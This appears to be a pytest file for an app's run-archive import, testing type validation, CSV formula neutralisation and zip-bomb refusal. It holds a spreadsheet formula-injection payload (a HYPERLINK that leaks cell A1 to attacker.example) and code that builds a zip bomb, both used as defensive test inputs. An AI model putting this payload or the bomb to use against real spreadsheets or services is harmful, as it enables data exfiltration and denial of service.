"""`hearth runs import` of archives whose manifest or rows have the wrong types is refused in one
plain line (exit 2) with nothing stored; CSV exports neutralise formula cells while the archive
keeps the exact text. The archive is a real export of a stored run, then damaged."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")'


def _stored_run(home: Path, tmp_path: Path) -> Path:
    """A run stored the way the runner stores one, exported as an archive; returns the archive."""
    from desktop_app.core.runs import exchange
    from desktop_app.core.runs.manifest import RunManifest
    from desktop_app.core.runs.storage import RowResult, RunStore
    from desktop_app.core.runs.tasks import Task

    dataset = tmp_path / "data.csv"
    dataset.write_text("id,text\na1,hello\na2,+1 555\n", encoding="utf-8")
    store = RunStore()
    try:
        run_id = store.create(
            "Hostile", 2, "text", str(dataset), hashlib.sha256(dataset.read_bytes()).hexdigest(), "model.gguf", None,
            Task.from_dict({"prompt": "Say: {text}", "kind": "text"}),
            RunManifest.from_dict({"format": "hearth-run", "version": 1}), status="done",
        )  # fmt: skip
        rows = [
            RowResult(0, "a1", {"text": "hello"}, "Say: hello", FORMULA, None, True, None, None),
            RowResult(1, "a2", {"text": "+1 555"}, "Say: +1 555", "-2+3", None, True, None, None, error="@SUM(A1)"),
        ]
        store.add_rows(run_id, rows)
        archive = exchange.export_archive(store, run_id, tmp_path / "run.zip")
        exchange.export_csv(store, run_id, tmp_path / "run.csv")
    finally:
        store.close()
    return archive


def _hearth(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    import os

    return subprocess.run(
        [sys.executable, "-m", "desktop_app", *args], capture_output=True, text=True,
        env={**os.environ, "HEARTH_HOME": str(home)}, timeout=300, check=False,
    )  # fmt: skip


def _runs_stored(home: Path) -> int:
    db = sqlite3.connect(home / "hearth.db")
    try:
        return int(db.execute("SELECT COUNT(*) FROM runs").fetchone()[0])
    finally:
        db.close()


def _damaged(archive: Path, out: Path, manifest_change: Any = None, rows_change: Any = None) -> Path:
    with zipfile.ZipFile(archive) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "manifest.json" and manifest_change:
                manifest = json.loads(data)
                manifest_change(manifest)
                data = json.dumps(manifest).encode("utf-8")
            if info.filename == "rows.jsonl" and rows_change:
                rows = [json.loads(line) for line in data.decode("utf-8").splitlines()]
                rows_change(rows)
                data = "\n".join(json.dumps(r) for r in rows).encode("utf-8")
            new.writestr(info.filename, data)
    return out


BAD: dict[str, tuple[dict[str, Any] | None, tuple[str, Any] | None]] = {
    "task is a string": ({"task": "classify"}, None),
    "run is a list": ({"run": [1, 2]}, None),
    "version is not a number": ({"version": "one"}, None),
    "n is text": ({"run.n": "many"}, None),
    "labels not a list": ({"task.labels": "a,b"}, None),
    "created_at infinite": ({"run.created_at": float("inf")}, None),
    "row index is text": (None, ("index", "first")),
    "row output is a list": (None, ("output", ["x"])),
    "row valid is a string": (None, ("valid", "yes")),
    "row seed is huge": (None, ("seed", 10**30)),
    "row index missing": (None, ("index", ...)),  # ...: the key is taken out
}


def _apply(changes: dict[str, Any]) -> Any:
    def change(manifest: dict[str, Any]) -> None:
        for key, value in changes.items():
            target = manifest
            *parents, last = key.split(".")
            for parent in parents:
                target = target[parent]
            target[last] = value

    return change


def _bad_archive(case: str, archive: Path, out: Path) -> Path:
    manifest_changes, row_change = BAD[case]

    def rows_change(rows: list[dict[str, Any]]) -> None:
        assert row_change is not None
        key, value = row_change
        if value is ...:
            del rows[-1][key]
        else:
            rows[-1][key] = value

    return _damaged(
        archive, out, _apply(manifest_changes) if manifest_changes else None, rows_change if row_change else None
    )


# Through the real CLI (a process each: a few, to keep the suite fast); every case in-process below.
CLI_CASES = ["task is a string", "row output is a list"]


@pytest.mark.parametrize("case", CLI_CASES)
def test_an_archive_with_wrong_types_is_refused_by_the_cli_and_nothing_stored(
    case: str, hearth_home: Path, tmp_path: Path
) -> None:
    archive = _stored_run(hearth_home, tmp_path)
    before = _runs_stored(hearth_home)
    out = _hearth(hearth_home, "runs", "import", str(_bad_archive(case, archive, tmp_path / "bad.zip")))
    assert out.returncode == 2, out.stderr
    assert out.stderr.startswith("hearth: ") and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert "Traceback" not in out.stderr and "not a run exported by Hearth" in out.stderr
    assert "sha256" not in out.stderr  # refused for its types, not for anything else
    assert _runs_stored(hearth_home) == before


def test_every_wrong_type_is_refused_before_anything_is_stored(hearth_home: Path, tmp_path: Path) -> None:
    """The function `hearth runs import` calls, for every case (each would be a traceback, or a
    run stored that `runs show` then crashes on)."""
    from desktop_app.core.errors import HearthError
    from desktop_app.core.runs import exchange
    from desktop_app.core.runs.storage import RunStore

    archive = _stored_run(hearth_home, tmp_path)
    store = RunStore()
    try:
        before = len(store.all_runs())
        for case in BAD:
            bad = _bad_archive(case, archive, tmp_path / f"bad-{len(case)}.zip")
            with pytest.raises(HearthError) as caught:
                exchange.import_archive(store, bad)
            assert "not a run exported by Hearth" in caught.value.message and "sha256" not in caught.value.message
            assert "\n" not in caught.value.message and "positional argument" not in caught.value.message, case
        assert len(store.all_runs()) == before
    finally:
        store.close()


def test_a_good_archive_imports_and_csv_cells_cannot_be_formulas(hearth_home: Path, tmp_path: Path) -> None:
    archive = _stored_run(hearth_home, tmp_path)
    with zipfile.ZipFile(archive) as opened:
        exact = [json.loads(line)["output"] for line in opened.read("rows.jsonl").decode().splitlines()]
        archived_csv = list(csv.reader(opened.read("results.csv").decode().splitlines()))
    assert exact == [FORMULA, "-2+3"]  # the archive keeps the exact text
    with (tmp_path / "run.csv").open(encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    for rows in (table, archived_csv):
        header = rows[0]
        outputs = [r[header.index("output")] for r in rows[1:]]
        assert outputs == ["'" + FORMULA, "'-2+3"]
        assert rows[2][header.index("input:text")] == "'+1 555"
        assert rows[2][header.index("error")] == "'@SUM(A1)"
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    out = _hearth(hearth_home, "runs", "import", str(archive))
    assert out.returncode == 0, out.stderr
    shown = _hearth(hearth_home, "runs", "list")
    assert shown.returncode == 0 and "Hostile" in shown.stdout


def test_an_archive_whose_manifest_inflates_past_the_limit_is_refused(hearth_home: Path, tmp_path: Path) -> None:
    """A zip bomb: 72 MB of spaces before a valid manifest (JSON allows them) zip to ~70 KB."""
    archive = _stored_run(hearth_home, tmp_path)
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive) as old, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename != "manifest.json":
                new.writestr(info.filename, old.read(info))
        member = zipfile.ZipInfo("manifest.json")
        member.compress_type = zipfile.ZIP_DEFLATED
        with new.open(member, "w", force_zip64=True) as out:
            for _ in range(72):
                out.write(b" " * (1024 * 1024))
            out.write(old.read("manifest.json"))
    assert bomb.stat().st_size < 1024 * 1024
    before = _runs_stored(hearth_home)
    refused = _hearth(hearth_home, "runs", "import", str(bomb))
    assert refused.returncode == 2, refused.stderr
    assert "manifest.json" in refused.stderr and "unpacked" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert _runs_stored(hearth_home) == before
